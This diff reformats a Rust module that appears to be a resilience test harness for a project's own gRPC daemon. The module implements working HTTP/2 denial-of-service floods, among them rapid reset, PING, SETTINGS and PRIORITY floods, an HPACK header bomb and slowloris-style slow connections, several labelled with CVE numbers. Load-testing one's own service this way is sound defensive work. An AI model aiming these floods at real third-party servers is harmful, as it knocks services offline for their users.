@@ -1,4 +1,5 @@
-//! What is done to the daemon. Every attack goes on until its time is over, with new connections where the daemon closes old ones.
+//! What is done to the daemon. Every attack goes on until its time is over, with new connections
+//! where the daemon closes old ones.
 
 use std::{
     pin::Pin,
@@ -10,11 +11,13 @@ use std::{
 };
 
 use futures_util::future::join_all;
-use tokio::{io::AsyncWriteExt as _, net::TcpStream, runtime::Builder, sync::oneshot, time::timeout};
+use tokio::{
+    io::AsyncWriteExt as _, net::TcpStream, runtime::Builder, sync::oneshot, time::timeout,
+};
 
 use super::frames::{
-    Attacker, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, LIST, PING, PREFACE, PRIORITY, REFLECT, RST_STREAM,
-    WINDOW_UPDATE, call, connect, frame, header, message, settings,
+    Attacker, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, LIST, PING, PREFACE, PRIORITY,
+    REFLECT, RST_STREAM, WINDOW_UPDATE, call, connect, frame, header, message, settings,
 };
 
 const HEALTH_WATCH: &str = "/grpc.health.v1.Health/Watch";
@@ -68,10 +71,23 @@ impl Attack {
         let (sender, done) = oneshot::channel();
         std::thread::spawn(move || {
             let until = Instant::now() + length;
-            let field = Field { address, until, connections, tried: Arc::default(), done: Arc::default() };
-            Builder::new_current_thread().enable_all().build().unwrap().block_on(run(field.clone()));
+            let field = Field {
+                address,
+                until,
+                connections,
+                tried: Arc::default(),
+                done: Arc::default(),
+            };
+            Builder::new_current_thread()
+                .enable_all()
+                .build()
+                .unwrap()
+                .block_on(run(field.clone()));
             let count = |count: &AtomicUsize| count.load(Ordering::Relaxed);
-            let _ = sender.send(Done { tried: count(&field.tried), done: count(&field.done) });
+            let _ = sender.send(Done {
+                tried: count(&field.tried),
+                done: count(&field.done),
+            });
         });
         done.await.expect("the attack's thread")
     }
@@ -99,11 +115,20 @@ impl Field {
         tokio::time::sleep_until(self.until.into()).await;
     }
 
-    /// Sends what `next` makes, a batch at a time, over `connections`, and connects anew where the daemon has closed.
-    async fn flood(&self, connections: usize, first: &[u8], next: impl Fn(u32) -> Vec<u8>, batch: u32) {
+    /// Sends what `next` makes, a batch at a time, over `connections`, and connects anew where the
+    /// daemon has closed.
+    async fn flood(
+        &self,
+        connections: usize,
+        first: &[u8],
+        next: impl Fn(u32) -> Vec<u8>,
+        batch: u32,
+    ) {
         let one = async || {
             while self.goes_on() {
-                let Some(mut attacker) = self.connect(&[], true).await else { continue };
+                let Some(mut attacker) = self.connect(&[], true).await else {
+                    continue;
+                };
                 let mut n = 0;
                 let mut open = attacker.send(first).await;
                 while open && self.goes_on() && n < 1 << 29 {
@@ -133,8 +158,12 @@ async fn rapid_reset(field: Field) {
     let block = call(LIST);
     let next = |n| {
         let open = frame(HEADERS, END_HEADERS, stream(n), &block);
-        [open, frame(DATA, END_STREAM, stream(n), &message(&[])), frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8])]
-            .concat()
+        [
+            open,
+            frame(DATA, END_STREAM, stream(n), &message(&[])),
+            frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8]),
+        ]
+        .concat()
     };
     field.flood(FEW, &[], next, 50).await;
 }
@@ -148,7 +177,14 @@ async fn continuation_flood(field: Field) {
 
 /// Each has to be acknowledged.
 async fn settings_flood(field: Field) {
-    field.flood(FEW, &[], |n| settings(&[(4, 65_535 + n % 2), (1, 4096 * (n % 2))]), 100).await;
+    field
+        .flood(
+            FEW,
+            &[],
+            |n| settings(&[(4, 65_535 + n % 2), (1, 4096 * (n % 2))]),
+            100,
+        )
+        .await;
 }
 
 /// CVE-2019-9512: each has to be answered.
@@ -159,7 +195,14 @@ async fn ping_flood(field: Field) {
 
 /// CVE-2019-9513: streams that are sorted again and again.
 async fn priority_flood(field: Field) {
-    field.flood(FEW, &[], |n| frame(PRIORITY, 0, stream(n % 1000), &[0, 0, 0, 0, 16]), 200).await;
+    field
+        .flood(
+            FEW,
+            &[],
+            |n| frame(PRIORITY, 0, stream(n % 1000), &[0, 0, 0, 0, 16]),
+            200,
+        )
+        .await;
 }
 
 /// CVE-2019-9518: frames with nothing in them.
@@ -174,7 +217,9 @@ async fn slow_preface(field: Field) {
     let one = async || {
         while field.goes_on() {
             field.tried.fetch_add(1, Ordering::Relaxed);
-            let Ok(Ok(mut socket)) = timeout(Duration::from_secs(5), TcpStream::connect(&field.address)).await else {
+            let Ok(Ok(mut socket)) =
+                timeout(Duration::from_secs(5), TcpStream::connect(&field.address)).await
+            else {
                 continue;
             };
             field.count(1);
@@ -194,10 +239,15 @@ async fn half_open(field: Field) {
     let block = call(APPLY);
     let one = async || {
         while field.goes_on() {
-            let Some(mut attacker) = field.connect(&[], true).await else { continue };
+            let Some(mut attacker) = field.connect(&[], true).await else {
+                continue;
+            };
             for n in 0..100 {
-                let partial =
-                    [frame(HEADERS, END_HEADERS, stream(n), &block), frame(DATA, 0, stream(n), &[0, 0, 0])].concat();
+                let partial = [
+                    frame(HEADERS, END_HEADERS, stream(n), &block),
+                    frame(DATA, 0, stream(n), &[0, 0, 0]),
+                ]
+                .concat();
                 if !attacker.send(&partial).await {
                     break;
                 }
@@ -225,14 +275,22 @@ async fn giant_headers(field: Field) {
     field.flood(FEW, &[], next, 1).await;
 }
 
-/// CVE-2016-1544 and its kin: a header is put into the table once and named thousands of times, a byte each.
+/// CVE-2016-1544 and its kin: a header is put into the table once and named thousands of times, a
+/// byte each.
 async fn header_bomb(field: Field) {
     let mut block = call(LIST);
     let large = header("x-bomb", &"b".repeat(3900));
     block.push(0x40); // with incremental indexing: what follows is the first of the dynamic table
     block.extend(&large[1..]);
     block.extend(vec![0x80 | 62; MAX_FRAME - block.len() - 100]);
-    field.flood(FEW, &[], |n| frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &block), 4).await;
+    field
+        .flood(
+            FEW,
+            &[],
+            |n| frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &block),
+            4,
+        )
+        .await;
 }
 
 /// Streams that the daemon has to keep open, as many as it allows and more.
@@ -240,10 +298,14 @@ async fn many_streams(field: Field) {
     let block = call(HEALTH_WATCH);
     let one = async || {
         while field.goes_on() {
-            let Some(mut attacker) = field.connect(&[], true).await else { continue };
+            let Some(mut attacker) = field.connect(&[], true).await else {
+                continue;
+            };
             for n in 0..2000 {
-                let call =
-                    [frame(HEADERS, END_HEADERS, stream(n), &block), frame(DATA, END_STREAM, stream(n), &message(&[]))];
+                let call = [
+                    frame(HEADERS, END_HEADERS, stream(n), &block),
+                    frame(DATA, END_STREAM, stream(n), &message(&[])),
+                ];
                 if !field.goes_on() || !attacker.send(&call.concat()).await {
                     break;
                 }
@@ -264,7 +326,11 @@ async fn never_reads(field: Field) {
 
 /// Takes the answers a byte at a time.
 async fn tiny_windows(field: Field) {
-    let more = [frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]), frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])].concat();
+    let more = [
+        frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
+        frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
+    ]
+    .concat();
     reflect(&field, &[(4, 1)], true, &more).await;
 }
 
@@ -274,10 +340,14 @@ async fn reflect(field: &Field, hello: &[(u16, u32)], reads: bool, more: &[u8]) 
     let ask = message(&[&[0x1a, u8::try_from(name.len()).unwrap()][..], name].concat());
     let one = async || {
         while field.goes_on() {
-            let Some(mut attacker) = field.connect(hello, reads).await else { continue };
+            let Some(mut attacker) = field.connect(hello, reads).await else {
+                continue;
+            };
             let mut open = true;
             for n in 0..100 {
-                open &= attacker.send(&frame(HEADERS, END_HEADERS, stream(n), &call(REFLECT))).await;
+                open &= attacker
+                    .send(&frame(HEADERS, END_HEADERS, stream(n), &call(REFLECT)))
+                    .await;
             }
             // As many questions as the windows let through: 64 KiB for the connection.
             for n in (0..100).cycle().take(1000) {
@@ -297,9 +367,16 @@ async fn reflect(field: &Field, hello: &[(u16, u32)], reads: bool, more: &[u8]) 
 async fn endless_message(field: Field) {
     let one = async || {
         while field.goes_on() {
-            let Some(mut attacker) = field.connect(&[], true).await else { continue };
-            let mut open = attacker.send(&frame(HEADERS, END_HEADERS, 1, &call(APPLY))).await;
-            open = open && attacker.send(&frame(DATA, 0, 1, &[0, 255, 255, 255, 255])).await;
+            let Some(mut attacker) = field.connect(&[], true).await else {
+                continue;
+            };
+            let mut open = attacker
+                .send(&frame(HEADERS, END_HEADERS, 1, &call(APPLY)))
+                .await;
+            open = open
+                && attacker
+                    .send(&frame(DATA, 0, 1, &[0, 255, 255, 255, 255]))
+                    .await;
             while field.goes_on() && open {
                 open = attacker.send(&frame(DATA, 0, 1, &[b'x'; 100])).await;
                 field.count(usize::from(open));
@@ -322,7 +399,9 @@ async fn garbage(field: Field) {
     let one = async |text: &[u8]| {
         while field.goes_on() {
             field.tried.fetch_add(1, Ordering::Relaxed);
-            let Ok(mut socket) = TcpStream::connect(&field.address).await else { continue };
+            let Ok(mut socket) = TcpStream::connect(&field.address).await else {
+                continue;
+            };
             field.count(usize::from(socket.write_all(text).await.is_ok()));
             tokio::time::sleep(Duration::from_millis(2)).await;
         }
@@ -344,5 +423,8 @@ async fn idle_connections(field: Field) {
         tokio::task::yield_now().await;
     }
     field.count(quiet.len() + polite.len());
-    tokio::time::sleep(Duration::from_secs(1).max(field.until.saturating_duration_since(Instant::now()))).await;
+    tokio::time::sleep(
+        Duration::from_secs(1).max(field.until.saturating_duration_since(Instant::now())),
+    )
+    .await;
 }
